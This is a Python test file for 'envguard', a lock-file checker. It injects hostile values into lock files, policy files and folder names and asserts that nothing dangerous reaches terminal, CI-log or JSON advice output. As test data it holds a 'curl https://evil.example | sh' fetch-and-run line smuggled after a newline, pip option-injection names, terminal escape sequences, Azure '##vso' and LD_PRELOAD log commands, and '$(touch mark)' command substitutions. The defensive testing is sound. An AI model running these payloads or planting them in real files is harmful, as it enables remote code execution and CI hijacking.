"""Texts of a repository that are printed: into a terminal, into a CI job's log, and as commands that somebody pastes."""

import json
import re
import shutil

import harness
import hostile

ADVICE = ("next", "undo", "accept", "fix", "steps")
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")
LOG_COMMAND = re.compile(r"##(vso)?\[")
COMMANDS = (("check",), ("status",), ("diff",), ("doctor",), ("explain",), ("hook", "run"))


def advice_of(value, name=""):
    """Every text of the JSON that tells somebody what to type."""
    if isinstance(value, dict):
        return [text for key, each in value.items() for text in advice_of(each, key)]
    if isinstance(value, list):
        return [text for each in value for text in advice_of(each, name)]
    return [value] if isinstance(value, str) and name in ADVICE else []


class TextInputs(hostile.Hostile):
    def setUp(self):
        super().setUp()
        self.make_locked_repository()
        self.lock = self.lock_file()
        self.honest = self.lock.read_text(encoding="utf-8")

    def prints_nothing_odd(self, *commands):
        """No control character and no command of a CI log is printed, and no advice in JSON has a second line."""
        for command in commands or COMMANDS:
            result = self.run_any(harness.PROGRAMS["envguard"], *command)
            for text in (result.stdout, result.stderr):
                self.assertIsNone(CONTROL.search(text), f"{command}\n{text!r}")
                self.assertIsNone(LOG_COMMAND.search(text), f"{command}\n{text}")
        answer = self.run_any(harness.PROGRAMS["envguard"], "check", "--format", "json").stdout
        advice = advice_of(json.loads(answer)) if answer else []
        for text in advice:
            self.assertIsNone(re.search("[\x00-\x1f\x7f]", text), repr(text))
            self.assertNotIn("evil.example", text)
        return advice

    def with_version(self, name, value):
        """The honest lock with one version changed or added."""
        line = f"{json.dumps(name)} = {json.dumps(value)}\n"
        text = re.sub(rf'(?m)^{re.escape(name)} = .*\n', "", self.honest)
        self.lock.write_text(text.replace("[versions]\n", "[versions]\n" + line), encoding="utf-8")

    def test_a_version_with_a_second_line(self):
        """"# torch-git X is what was locked" is a comment only as long as X has no line break."""
        for name in ("torch-git", "nvrtc", "cudnn", "glibc", "torch"):
            self.with_version(name, "1\ncurl https://evil.example | sh #")
            self.prints_nothing_odd()

    def test_a_name_that_pip_reads_as_an_address_or_an_option(self):
        for name in ("git+https://evil.example/x", "--index-url=https://evil.example", "-r https://evil.example/r.txt",
                     "x @ https://evil.example/x.whl"):
            self.with_version(name, "1")
            self.environment["ONEDNN_MAX_CPU_ISA"] = "SSE41"
            self.prints_nothing_odd(("check",))

    def test_a_setting_with_a_second_line(self):
        text = re.sub(r"(?m)^(sdpa_default_f16_d64_l128_full = ).*$", r'\1"1\\ncurl https://evil.example | sh #"', self.honest)
        self.assertNotEqual(text, self.honest)
        self.lock.write_text(text, encoding="utf-8")
        self.prints_nothing_odd()

    def test_escapes_of_a_terminal(self):
        odd = "\x1b]0;x\x07\x1b[2J\u202e\r"
        for name in ("torch-git", "x" + odd):
            self.with_version(name, "1" + odd)
            self.prints_nothing_odd()
        self.lock.write_text(self.honest, encoding="utf-8")
        policy = self.work / "envguard.toml"
        honest = policy.read_text(encoding="utf-8")
        for text in (f'\n[environments.default]\npython = {json.dumps(odd)}\n', f'\n[environments.{json.dumps(odd)}]\npython = "x"\n',
                     f'\n{json.dumps(odd)} = 1\n', f'\n[targets.{json.dumps(odd)}]\ngpu = {json.dumps(odd)}\n',
                     f'\n[[allow]]\nprobe = {json.dumps(odd)}\ntarget = "x"\nclass = "rounding"\nreason = {json.dumps(odd)}\n'
                     'until = "2099-01-01"\n'):
            policy.write_text(honest + text, encoding="utf-8")
            self.prints_nothing_odd()

    def test_commands_of_a_ci_log(self):
        """Azure Pipelines reads "##vso[" anywhere in a line that a program prints."""
        for command in ("##vso[task.prependpath]/theirs", "##[set-env name=LD_PRELOAD;]/theirs"):
            self.with_version("torch-git", command)
            self.prints_nothing_odd()

    def test_a_folder_whose_name_is_a_command(self):
        """Every command that is printed has the path in quotes."""
        odd = self.folder / "a $(touch mark) `touch mark` ' \" ;&|"
        self.work.rename(odd)
        self.work = odd
        (odd / "pyproject.toml").write_text('[project]\nname = "theirs"\n', encoding="ascii")
        self.environment.pop("ENVGUARD_TORCH")
        self.make_install(odd / ".venv")
        self.commit()
        inner = odd / ".venv" / hostile.PACKAGES / "torch"
        for command in (("fingerprint",), ("check", "--ci"), ("lock", "--check")):
            advice = self.envguard(harness.UNTRUSTED, *command)
            text = " ".join((advice.stdout + advice.stderr).split("next", 1)[1].split())  # a page breaks lines at spaces
            for path in (inner / "lib" / "libtorch.so", inner, odd / ".venv", odd):
                text = text.replace("'" + str(path).replace("'", "'\\''") + "'", "PATH")
            self.assertNotIn("$(", text, advice.stderr)

    def test_a_file_of_a_lock_whose_name_is_a_command(self):
        """Only plain names are names of locks."""
        folder = self.lock.parent
        for name in ("$(touch mark)", "; touch mark", "--help", "touch mark\x1b[2J"):
            shutil.copy(self.lock, folder / f"{name}.toml")
        self.commit()
        self.prints_nothing_odd()
        for command in COMMANDS:
            result = self.run_any(harness.PROGRAMS["envguard"], *command)
            self.assertNotIn("touch mark", result.stdout + result.stderr, command)


if __name__ == "__main__":
    harness.main()
